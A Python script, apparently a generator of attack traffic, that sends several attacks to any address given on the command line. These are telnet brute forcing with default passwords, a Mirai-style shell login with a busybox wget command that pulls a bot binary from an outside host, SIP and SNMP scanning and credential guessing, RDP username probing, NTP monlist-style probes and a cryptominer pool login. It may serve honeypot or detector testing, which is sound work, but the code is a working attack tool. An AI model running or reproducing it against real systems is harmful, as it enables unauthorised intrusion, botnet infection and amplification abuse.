#!/usr/bin/env python3
"""Attackers that have no package of their own.

    clients.py NAME ADDRESS     telnet | iot | sip | register | snmp | miner | rdp | ntp
"""
from __future__ import annotations

import json
import socket
import sys
import time

WORDS = ("123456", "password", "admin", "12345", "root", "888888", "default", "juantech", "54321", "support")


def talk(address: str, port: int, lines: list[bytes]) -> None:
    with socket.create_connection((address, port), 5) as peer:
        peer.settimeout(1)
        for line in lines:
            try:
                peer.recv(4096)
            except TimeoutError:
                pass
            peer.sendall(line)
        time.sleep(0.05)


def telnet(address: str) -> None:
    for first in range(0, len(WORDS), 5):
        talk(address, 23, [part for word in WORDS[first:first + 5] for part in (b"root\r\n", word.encode() + b"\r\n")])


def iot(address: str) -> None:
    talk(address, 23, [b"root\r\n", b"xc3511\r\n", b"enable\r\n", b"system\r\n", b"shell\r\n", b"sh\r\n", b"/bin/busybox MIRAI\r\n",
                       b"/bin/busybox wget http://203.0.113.66/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n"])


def datagrams(address: str, port: int, texts: list[bytes], pause: float = 0.01) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(0.3)
        for text in texts:
            peer.sendto(text, (address, port))
            try:
                peer.recv(65535)
            except TimeoutError:
                pass
            time.sleep(pause)


def sip_request(method: str, number: int, address: str, agent: str) -> bytes:
    return (f"{method} sip:{100 + number}@{address} SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.60:5060;branch=z9hG4bK-{number:08d};rport\r\nMax-Forwards: 70\r\n"
            f"From: \"{agent}\" <sip:{100 + number}@{address}>;tag={number:016x}\r\nTo: <sip:{100 + number}@{address}>\r\nCall-ID: {number * 7919}\r\n"
            f"CSeq: 1 {method}\r\nContact: <sip:100@198.51.100.60:5060>\r\nUser-Agent: {agent}\r\nContent-Length: 0\r\n\r\n").encode()


def sip(address: str) -> None:
    datagrams(address, 5060, [sip_request("OPTIONS", n, address, "friendly-scanner") for n in range(25)])


def register(address: str) -> None:
    datagrams(address, 5060, [sip_request("REGISTER", n, address, "VaxSIPUserAgent/3.1") for n in range(40)])


def snmp(address: str) -> None:
    get = bytes.fromhex("a019020400000001020100020100300b300906052b060102010500")
    for community in (b"public", b"private", b"public", b"cisco", b"public"):
        body = b"\x02\x01\x01\x04" + bytes([len(community)]) + community + get
        datagrams(address, 161, [b"\x30" + bytes([len(body)]) + body])


def miner(address: str) -> None:
    login = {"id": 1, "jsonrpc": "2.0", "method": "login", "params": {"login": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
                                                                    "pass": "x", "agent": "XMRig/6.18.0 (Linux x86_64)", "algo": ["rx/0"]}}
    submit = {"id": 2, "jsonrpc": "2.0", "method": "submit", "params": {"id": "1be0b7b6", "job_id": "q7PLUPL25UV0z5Ij14IyMk8htXbj", "nonce": "d0030040", "result": "e1364b8782719d7683e2ccd3d8f724bc"}}
    with socket.create_connection((address, 3333), 5) as peer:
        for request in (login, submit, submit):
            peer.sendall(json.dumps(request).encode() + b"\n")
            peer.recv(4096)


def rdp(address: str) -> None:
    for name in ("Administrator", "admin", "user1", "test", "ketoan"):
        for _ in range(4):
            cookie = f"Cookie: mstshash={name}\r\n".encode()
            body = bytes((6 + len(cookie) + 8, 0xE0, 0, 0, 0, 0, 0)) + cookie + bytes.fromhex("0100080003000000")
            with socket.create_connection((address, 3389), 5) as peer:
                peer.sendall(b"\x03\x00" + (4 + len(body)).to_bytes(2, "big") + body)
                peer.recv(100)


def ntp(address: str) -> None:
    datagrams(address, 123, [bytes.fromhex("1700032a00000000")] * 12)


CLIENTS = {"telnet": telnet, "iot": iot, "sip": sip, "register": register, "snmp": snmp, "miner": miner, "rdp": rdp, "ntp": ntp}

if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[1] not in CLIENTS:
        sys.exit(__doc__)
    CLIENTS[sys.argv[1]](sys.argv[2])
